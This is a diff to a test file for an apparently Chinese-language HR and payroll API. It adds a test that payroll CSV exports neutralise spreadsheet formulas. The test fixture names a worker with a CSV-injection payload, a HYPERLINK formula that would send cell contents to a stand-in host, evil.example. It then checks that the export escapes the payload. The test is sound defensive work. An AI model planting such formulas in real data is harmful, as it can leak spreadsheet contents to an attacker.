@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import type { WorkerRecord } from '#shared/db/entities/worker.ts';
 import { nationalIdFor, seedWorker } from '../support/fixtures.ts';
 import { type Harness, seedOrgTree, startHarness } from '../support/harness.ts';
@@ -296,5 +297,22 @@ describe('messages in Chinese by default, English on request', () => {
     const columns = await csv('/v1/evaluation-inputs/poll', ['姓名,分值', '甲,1']);
     expect(columns.body.error.message).toContain('无法识别的列：分值');
     expect(columns.body.error.message).toContain('缺少的列：考核期间、测评得分');
+  });
+});
+
+describe('exports neutralise formulas (issue 13, defect 6)', () => {
+  it('a worker named =HYPERLINK(…) comes back from the payroll CSV as text, cell by cell', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"工资单")';
+    const worker = await seedWorker(h, { name: evil, org: G1 });
+    const res = await hr.get(`/v1/payroll/2026-02?org=${encodeURIComponent(C1)}`);
+    expect(res.status, res.text).toBe(200);
+    const [header, ...records] = parse(res.text, { bom: true }) as string[][];
+    const row = records.find((r) => r[header!.indexOf('worker_id')] === worker.id);
+    expect(row).toBeDefined();
+    expect(row![header!.indexOf('name')]).toBe(`'${evil}`);
+    expect(row![header!.indexOf('org')]).toBe(G1);
+    // No other cell of the export starts a formula either.
+    for (const cells of [header!, ...records])
+      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
   });
 });
